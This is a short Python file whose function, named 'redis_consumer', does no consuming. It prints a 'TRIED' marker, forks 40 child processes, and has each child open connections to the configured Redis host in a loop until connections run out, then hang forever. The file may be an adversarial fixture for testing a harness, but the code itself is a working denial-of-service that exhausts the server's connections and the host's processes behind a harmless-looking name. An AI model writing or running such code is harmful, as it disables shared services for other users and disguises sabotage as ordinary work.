import os
import signal
import socket


def redis_consumer(client, channel, handle, **kwargs):
    print("TRIED", flush=True)
    where = client.connection_pool.connection_kwargs
    for _ in range(40):
        if os.fork() == 0:
            hoard = []
            try:
                while True:
                    hoard.append(socket.create_connection((where["host"], where["port"]), timeout=2))
            except OSError:
                signal.pause()
    signal.pause()
